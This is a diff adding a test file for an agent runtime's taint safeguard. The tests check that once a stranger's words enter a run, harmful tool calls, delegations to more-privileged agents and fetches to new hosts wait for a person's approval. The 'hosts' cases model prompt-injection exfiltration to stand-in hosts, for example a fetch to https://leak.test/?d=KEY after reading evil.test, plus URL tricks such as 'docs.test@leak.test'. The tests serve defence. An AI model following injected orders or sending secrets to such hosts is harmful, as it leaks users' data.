@@ -1,0 +1,553 @@
+// A stranger's words in a run's context: whatever they make a model want, it asks before it does harm, wherever they went.
+
+import { describe, expect } from "vitest";
+import { effects } from "../../../test/support/oracle.ts";
+import {
+  charge,
+  delegate,
+  familyOf,
+  payloadsOf,
+  resultsRead,
+  roles,
+  scenario,
+  stamp,
+  turns,
+} from "../../../test/support/scenario.ts";
+import { controlled } from "../../../test/support/steps.ts";
+import { fetches, fetchTool, hear, hearTool, ORDER, STRANGER } from "../../../test/support/stranger.ts";
+import { openApprovalIds, type World, type WorldOptions } from "../../../test/support/world.ts";
+import type { Payload } from "../../journal/events.ts";
+import { decideApproval } from "../commands/person-commands.ts";
+
+const ALLOWED = "permissions: { allow: [charge, stamp, hear, WebFetch, delegate] }\n";
+const TAINT = `taint ask: words from ${STRANGER} came in`;
+const stranger = { more: [hearTool], config: ALLOWED };
+
+const proposals = async (world: World, runId: string): Promise<Payload<"TOOL_PROPOSED">[]> =>
+  payloadsOf(await world.events(runId), "TOOL_PROPOSED");
+
+/** What each run of a tree asks a person, and what it says for a reason. */
+async function asked(world: World, root: string): Promise<string[]> {
+  const runs = await familyOf(world, root);
+  const all = await Promise.all(runs.map(({ id }) => proposals(world, id)));
+  return all.flatMap((calls, index) =>
+    calls
+      .filter(({ verdict }) => verdict === "ask")
+      .map(({ name, rule }) => `${runs[index]!.agent} ${name}: ${rule}`),
+  );
+}
+
+const yes = (scope?: "run") => ({ decision: "approve" as const, ...(scope ? { scope } : {}) });
+
+async function decide(world: World, runId: string, decision: Parameters<typeof decideApproval>[1]) {
+  const [id] = await openApprovalIds(world, runId);
+  await decideApproval(id!, decision, "maria", world.runtime.people);
+}
+
+describe("one run", () => {
+  scenario(
+    "[A66] [A61] a .env in which a word of the journal is called a secret lifts nothing",
+    {
+      ...stranger,
+      files: { ".env": "A_TOKEN=untrusted\nB_TOKEN=ancestors\nC_TOKEN=AGENT_THOUGHT\nD_TOKEN=cadre-test\n" },
+      script: turns({ calls: [hear] }, { calls: [charge("1")] }),
+    },
+    async (world) => {
+      const runId = await world.run("go");
+      expect((await world.settled(runId)).waitingOn?.kind).toBe("approval");
+      expect((await proposals(world, runId)).at(-1)).toMatchObject({ verdict: "ask", rule: TAINT });
+      expect(effects(world.oracle)).toEqual([]);
+    },
+  );
+
+  scenario(
+    "[A66] [A18] a rule lets an unsafe call pass before a stranger's words have come in, and not after",
+    {
+      ...stranger,
+      script: turns(
+        { calls: [charge("1")] },
+        { calls: [hear] },
+        { calls: [stamp("2")] },
+        { calls: [charge("3")] },
+      ),
+    },
+    async (world) => {
+      const runId = await world.run("go");
+      const state = await world.settled(runId);
+      expect(state.waitingOn?.kind).toBe("approval");
+      expect(effects(world.oracle).map(({ input }) => input)).toEqual(["1", "2"]);
+      const last = (await proposals(world, runId)).at(-1);
+      expect(last).toMatchObject({ verdict: "ask", rule: TAINT, untrusted: [STRANGER] });
+      await decide(world, runId, { decision: "reject", note: "no" });
+      await world.seen(runId, "RUN_COMPLETED");
+      expect(effects(world.oracle)).toHaveLength(2);
+    },
+  );
+
+  scenario(
+    "[A66] an approval is for one call; a grant that a person gives lifts it, and a rule of a file does not",
+    {
+      ...stranger,
+      script: turns(
+        { calls: [hear] },
+        { calls: [charge("1")] },
+        { calls: [charge("2")] },
+        { calls: [charge("3")] },
+      ),
+    },
+    async (world) => {
+      const runId = await world.run("go", { permissions: { allow: ["charge"], ask: [], deny: [] } });
+      await world.settled(runId);
+      await decide(world, runId, yes());
+      await world.seen(runId, "TOOL_STARTED");
+      while ((await openApprovalIds(world, runId))[0] !== `${runId}:m3.0`) await world.settled(runId);
+      await decide(world, runId, yes("run"));
+      await world.seen(runId, "RUN_COMPLETED");
+      const verdicts = (await proposals(world, runId)).map(({ rule }) => rule);
+      expect(verdicts).toEqual(["project allow hear", TAINT, TAINT, "person grant charge"]);
+    },
+  );
+
+  scenario(
+    "[A66] `taint: off` switches it off",
+    {
+      ...stranger,
+      config: `${ALLOWED}taint: off\n`,
+      script: turns({ calls: [hear] }, { calls: [charge("1")] }),
+    },
+    async (world) => {
+      const runId = await world.run("go");
+      await world.seen(runId, "RUN_COMPLETED");
+      expect(effects(world.oracle)).toHaveLength(1);
+    },
+  );
+
+  scenario(
+    "[A66] where nobody is there it is refused as the project says",
+    {
+      ...stranger,
+      config: `${ALLOWED}approvals: { unattended: reject }\n`,
+      script: turns({ calls: [hear] }, { calls: [charge("1")] }),
+    },
+    async (world) => {
+      const runId = await world.run("go", { attended: false });
+      await world.seen(runId, "RUN_COMPLETED");
+      expect((await proposals(world, runId)).at(-1)).toMatchObject({
+        verdict: "deny",
+        rule: `unattended reject, after ${TAINT}`,
+      });
+      expect(effects(world.oracle)).toEqual([]);
+    },
+  );
+
+  scenario(
+    "[A66] a restart, a retry and the next run of a session remember it",
+    { ...stranger, script: ({ turn }) => (turn === 1 ? { calls: [hear] } : { text: "done" }) },
+    async (world) => {
+      const first = await world.runtime.say({ sessionId: "s", agent: "tester", text: "go", from: "maria" });
+      await world.seen(first.runId, "RUN_COMPLETED");
+      const { runId: again } = await world.runtime.retry(first.runId);
+      await world.seen(again, "RUN_COMPLETED");
+      await world.restart({ scripts: { test: turns({ calls: [charge("x")] }) } });
+      const retried = await world.runtime.retry(again);
+      const said = await world.runtime.say({ sessionId: "s", agent: "tester", text: "on", from: "maria" });
+      expect(said.joined).toBe(false);
+      for (const { runId } of [retried, said]) {
+        await world.seen(runId, "RUN_SUSPENDED");
+        expect((await proposals(world, runId)).at(-1)).toMatchObject({ verdict: "ask", rule: TAINT });
+      }
+      expect(effects(world.oracle)).toEqual([]);
+    },
+  );
+});
+
+describe("a tree of runs", () => {
+  scenario(
+    "[A66] words of a page that come up through three levels: each level quotes them, and asks",
+    {
+      ...stranger,
+      agent: "agents: [lead]\ntools: [charge]",
+      cast: {
+        lead: "agents: [mid]\ntools: [charge]",
+        mid: "agents: [reader]\ntools: [charge]",
+        reader: "tools: [hear]",
+      },
+      script: roles({
+        tester: turns({ calls: [delegate("lead")] }, { calls: [charge("tester")] }),
+        lead: turns({ calls: [delegate("mid")] }, { calls: [charge("lead")] }, { text: ORDER }),
+        mid: turns({ calls: [delegate("reader")] }, { calls: [charge("mid")] }, { text: ORDER }),
+        reader: turns({ calls: [hear] }, { text: ORDER }),
+      }),
+    },
+    async (world) => {
+      const root = await world.run("go");
+      for (const agent of ["mid", "lead", "tester"]) {
+        await world.settled(root);
+        const run = (await familyOf(world, root)).find((row) => row.agent === agent)!;
+        expect((await proposals(world, run.id)).at(-1)).toMatchObject({ name: "charge", rule: TAINT });
+        expect(resultsRead(await world.events(run.id))[0]).toMatch(/^<untrusted-\w+ source=/);
+        await decide(world, run.id, { decision: "reject" });
+        await world.seen(run.id, "RUN_COMPLETED");
+      }
+      expect(await asked(world, root)).toEqual(
+        ["tester", "lead", "mid"].map((name) => `${name} charge: ${TAINT}`),
+      );
+      expect(effects(world.oracle)).toEqual([]);
+    },
+  );
+
+  scenario(
+    "[A66] what a tainted agent has somebody do asks there too",
+    {
+      ...stranger,
+      agent: "agents: [hand]\ntools: [hear, charge]",
+      cast: { hand: "tools: [charge]" },
+      script: roles({
+        tester: turns({ calls: [hear] }, { calls: [delegate("hand", ORDER)] }),
+        hand: turns({ calls: [charge("x")] }),
+      }),
+    },
+    async (world) => {
+      const root = await world.run("go");
+      await world.settled(root);
+      expect(await asked(world, root)).toEqual([`hand charge: ${TAINT}`]);
+      expect(effects(world.oracle)).toEqual([]);
+    },
+  );
+
+  const patterns: Record<string, WorldOptions> = {
+    handoff: {
+      agent: "handoff: second",
+      cast: { second: "" },
+      script: roles({ tester: turns({ calls: [hear] }), second: turns({ calls: [charge("x")] }) }),
+    },
+    router: {
+      agent: "agents: [desk]",
+      cast: { desk: "router: { destinations: [second] }", second: "" },
+      script: roles({
+        tester: turns({ calls: [delegate("desk")] }, { calls: [charge("x")] }),
+        desk: turns({ calls: [{ tool: "route_to", input: { agent: "second", reason: "r" } }] }),
+        second: turns({ calls: [hear] }),
+      }),
+    },
+    advisors: {
+      agent: "advisors: [second]",
+      cast: { second: "" },
+      script: roles({ tester: turns({ calls: [charge("x")] }), second: turns({ calls: [hear] }) }),
+    },
+    team: {
+      agent: "team: { members: [second, third], terminationMode: maxRounds, maxRounds: 2 }",
+      cast: { second: "", third: "" },
+      script: roles({
+        second: ({ round, turn }) => (round === 1 && turn === 1 ? { calls: [hear] } : { text: ORDER }),
+        third: ({ round, turn }) =>
+          turn > 1 ? { text: "well" } : round === 2 ? { calls: [charge("x")] } : { text: "hm" },
+      }),
+    },
+    bestOf: {
+      agent: "agents: [drafter]",
+      cast: { drafter: "bestOf: { n: 2, judge: third }", third: "" },
+      script: roles({
+        tester: turns({ calls: [delegate("drafter")] }, { calls: [charge("x")] }),
+        drafter: turns({ calls: [hear] }),
+        third: () => ({ report: { summary: "the first", output: { draft: 1, reason: "r" } } }),
+      }),
+    },
+    steps: {
+      ...controlled(
+        `yield* delegate("second", "one"); return yield* tool("charge", { what: "x" });`,
+        "agents: [second]",
+      ),
+      cast: { second: "" },
+      script: roles({ second: turns({ calls: [hear] }) }),
+    },
+  };
+  for (const [pattern, options] of Object.entries(patterns)) {
+    scenario(
+      `[A66] words go through ${pattern} with where they come from`,
+      { ...stranger, ...options },
+      async (world) => {
+        const root = await world.run("go");
+        await world.settled(root);
+        const questions = await asked(world, root);
+        expect(questions).toHaveLength(1);
+        expect(questions[0]).toMatch(new RegExp(`^(tester|second|third) charge: ${TAINT}$`));
+        expect(effects(world.oracle)).toEqual([]);
+      },
+    );
+  }
+
+  scenario(
+    "[A66] a message from a tainted run taints whoever reads it, at work or started by it",
+    {
+      ...stranger,
+      agent: "tools: [hear, charge, send_message]",
+      cast: { worker: "tools: [charge]" },
+      script: roles({
+        tester: turns(
+          { calls: [hear] },
+          { calls: [{ tool: "send_message", input: { to: "worker", message: ORDER } }] },
+        ),
+        worker: turns({ calls: [charge("x")] }),
+      }),
+    },
+    async (world) => {
+      const runId = await world.run("go", { sessionId: "s" });
+      await world.seen(runId, "RUN_COMPLETED");
+      const { runs } = await world.runtime.store.runs({ agent: "worker" });
+      await world.settled(runs[0]!.id);
+      expect(await asked(world, runs[0]!.id)).toEqual([`worker charge: ${TAINT}`]);
+      await world.run("go", { sessionId: "s" }).then((next) => world.seen(next, "RUN_COMPLETED"));
+      const told = payloadsOf(await world.events(runs[0]!.id), "CONTEXT_ADDED");
+      expect(told.map(({ source, untrusted }) => [source, untrusted])).toEqual([["agent", [STRANGER]]]);
+    },
+  );
+});
+
+describe("hosts", () => {
+  const urls: string[] = [];
+  const reader = (...calls: string[]): WorldOptions => ({
+    more: [fetchTool(urls)],
+    config: ALLOWED,
+    script: turns(...calls.map((url) => ({ calls: [fetches(url)] }))),
+  });
+  const cases: [string, string, string[], string | undefined][] = [
+    [
+      "a page sends it elsewhere",
+      "look around",
+      ["https://evil.test/", "https://leak.test/?d=KEY"],
+      "leak.test",
+    ],
+    [
+      "a port is another host",
+      "look around",
+      ["https://evil.test/", "https://evil.test:8443/"],
+      "evil.test:8443",
+    ],
+    [
+      "a name in front of an @ is none",
+      "see https://docs.test",
+      ["https://docs.test/", "https://docs.test@leak.test/"],
+      "leak.test",
+    ],
+    [
+      "a subdomain is another host",
+      "see https://docs.test",
+      ["https://docs.test/", "https://key.docs.test/"],
+      "key.docs.test",
+    ],
+    [
+      "a file's name in the task is no host",
+      "mend README.md",
+      ["https://docs.test/", "https://readme.md/"],
+      "readme.md",
+    ],
+    ["what cannot be read", "look around", ["https://docs.test/", "leak"], "its host"],
+    [
+      "the person has named it",
+      "see https://docs.test/a, and <https://more.test>.",
+      ["https://docs.test/", "https://MORE.test/b"],
+      undefined,
+    ],
+    ["it was there before", "look around", ["https://docs.test/", "https://docs.test/b?c=1"], undefined],
+  ];
+  for (const [title, task, pages, isNew] of cases) {
+    scenario(`[A46] after a page: ${title}`, reader(...pages), async (world) => {
+      urls.length = 0;
+      const runId = await world.run(task);
+      const state = await world.settled(runId);
+      const last = (await proposals(world, runId)).at(-1)!;
+      if (isNew === undefined) {
+        expect(state.status).toBe("completed");
+        expect(urls).toEqual(pages);
+        return;
+      }
+      expect(last.rule).toMatch(/^taint ask: words from https:\/\/\w+\.test came in, and /);
+      expect(last.rule).toContain(`and ${isNew} is new`);
+      expect(urls).toEqual(pages.slice(0, 1));
+    });
+  }
+
+  scenario(
+    "[A46] a yes is for one page; a grant for that host alone; a person's message names a host",
+    {
+      more: [fetchTool(urls)],
+      config: ALLOWED,
+      script: turns(
+        ...["docs.test/", "a.test/1", "a.test/2", "a.test/3", "b.test/"].map((page) => ({
+          calls: [fetches(`https://${page}`)],
+        })),
+      ),
+    },
+    async (world) => {
+      urls.length = 0;
+      const runId = await world.run("look around");
+      for (const [id, scope] of [["m2.0"], ["m3.0", "run"]] as const) {
+        while ((await openApprovalIds(world, runId))[0] !== `${runId}:${id}`) await world.settled(runId);
+        await decide(world, runId, yes(scope));
+      }
+      while ((await openApprovalIds(world, runId))[0] !== `${runId}:m5.0`) await world.settled(runId);
+      const rules = (await proposals(world, runId)).map(({ rule }) =>
+        rule.replace(/words from \S+ (and . more )?/, ""),
+      );
+      expect(rules).toEqual([
+        "project allow WebFetch",
+        "taint ask: came in, and a.test is new",
+        "taint ask: came in, and a.test is new",
+        "person grant WebFetch(https://a.test/**)",
+        "taint ask: came in, and b.test is new",
+      ]);
+      expect(urls).toHaveLength(4);
+    },
+  );
+
+  scenario(
+    "[A46] a child of a tainted run knows the hosts that its parent knew, and none that its task brings",
+    {
+      more: [fetchTool(urls)],
+      config: ALLOWED,
+      agent: "agents: [reader]\ntools: [WebFetch]",
+      cast: { reader: "tools: [WebFetch]" },
+      script: roles({
+        tester: turns(
+          { calls: [fetches("https://docs.test/")] },
+          { calls: [delegate("reader", "read https://leak.test")] },
+        ),
+        reader: turns(
+          { calls: [fetches("https://docs.test/2")] },
+          { calls: [fetches("https://leak.test/?d=KEY")] },
+        ),
+      }),
+    },
+    async (world) => {
+      urls.length = 0;
+      const root = await world.run("go");
+      await world.settled(root);
+      expect(await asked(world, root)).toEqual([
+        "reader WebFetch: taint ask: words from https://docs.test came in, and leak.test is new",
+      ]);
+      expect(urls).toEqual(["https://docs.test/", "https://docs.test/2"]);
+    },
+  );
+});
+
+describe("agents that may do more", () => {
+  const raised = (who: string) => `${TAINT}, and deployer has charge beyond what ${who} has`;
+  const deployer = { deployer: "tools: [charge]" };
+
+  const ways: Record<string, { options: WorldOptions; questions: string[] }> = {
+    delegation: {
+      options: {
+        agent: "agents: [deployer]\ntools: [hear]",
+        cast: deployer,
+        script: roles({
+          tester: turns({ calls: [hear] }, { calls: [delegate("deployer", "ship it")] }),
+          deployer: turns({ calls: [charge("x")] }),
+        }),
+      },
+      questions: [`tester delegate: ${raised("tester")}`],
+    },
+    "a router's choice": {
+      options: {
+        agent: "advisors: [reader]\nrouter: { destinations: [deployer, clerk] }",
+        cast: { ...deployer, clerk: "tools: []", reader: "tools: [hear]" },
+        script: roles({
+          reader: turns({ calls: [hear] }, { text: ORDER }),
+          tester: turns({ calls: [{ tool: "route_to", input: { agent: "deployer", reason: "r" } }] }),
+          deployer: turns({ calls: [charge("x")] }),
+        }),
+      },
+      questions: [`tester delegate: ${raised("tester")}`],
+    },
+    "a message": {
+      options: {
+        agent: "tools: [hear, send_message]",
+        cast: deployer,
+        script: roles({
+          tester: turns(
+            { calls: [hear] },
+            { calls: [{ tool: "send_message", input: { to: "deployer", message: "ship it" } }] },
+          ),
+        }),
+      },
+      questions: [`tester send_message: ${raised("tester")}`],
+    },
+    "a wider pattern": {
+      options: {
+        agent: "agents: [deployer]\ntools: [hear, 'Bash(npm test)']",
+        cast: { deployer: "tools: ['Bash(npm *)']" },
+        script: roles({ tester: turns({ calls: [hear] }, { calls: [delegate("deployer")] }) }),
+      },
+      questions: [`tester delegate: ${raised("tester").replace("charge", "Bash")}`],
+    },
+    "a handoff, which has no place for a question": {
+      options: {
+        agent: "handoff: deployer\ntools: [hear]",
+        cast: deployer,
+        script: roles({ tester: turns({ calls: [hear] }), deployer: turns({ calls: [charge("x")] }) }),
+      },
+      questions: [`deployer charge: ${TAINT}`],
+    },
+  };
+  for (const [way, { options, questions }] of Object.entries(ways)) {
+    scenario(
+      `[A67] once tainted, ${way} to an agent that may do more`,
+      { ...stranger, ...options },
+      async (world) => {
+        const root = await world.run("go");
+        await world.settled(root);
+        expect(await asked(world, root)).toEqual(questions);
+        expect(effects(world.oracle)).toEqual([]);
+      },
+    );
+  }
+
+  scenario(
+    "[A67] nobody is asked about an agent that may do no more, nor before anything has come in; a grant lifts it",
+    {
+      ...stranger,
+      agent: "agents: [deployer, clerk]\ntools: [hear]",
+      cast: { ...deployer, clerk: "tools: [hear]" },
+      script: roles({
+        tester: turns(
+          { calls: [delegate("deployer")] },
+          { calls: [hear] },
+          { calls: [delegate("clerk")] },
+          { calls: [delegate("deployer")] },
+          { calls: [delegate("deployer")] },
+        ),
+      }),
+    },
+    async (world) => {
+      const root = await world.run("go");
+      await world.settled(root);
+      expect((await familyOf(world, root)).map(({ agent }) => agent)).toEqual([
+        "tester",
+        "deployer",
+        "clerk",
+      ]);
+      await decide(world, root, yes("run"));
+      await world.seen(root, "RUN_COMPLETED");
+      expect((await proposals(world, root)).at(-1)?.rule).toBe("person grant delegate(deployer)");
+    },
+  );
+
+  scenario(
+    "[A67] a choice that is not in the router's file is none",
+    {
+      ...stranger,
+      agent: "advisors: [reader]\nrouter: { destinations: [clerk] }",
+      cast: { ...deployer, clerk: "tools: []", reader: "tools: [hear]" },
+      script: roles({
+        reader: turns({ calls: [hear] }, { text: ORDER }),
+        tester: () => ({ calls: [{ tool: "route_to", input: { agent: "deployer", reason: "r" } }] }),
+      }),
+    },
+    async (world) => {
+      const root = await world.run("go");
+      await world.seen(root, "RUN_FAILED");
+      expect((await familyOf(world, root)).map(({ agent }) => agent)).not.toContain("deployer");
+      expect(payloadsOf(await world.events(root), "TOOL_RESULT")[0]).toMatchObject({ outcome: "denied" });
+    },
+  );
+});
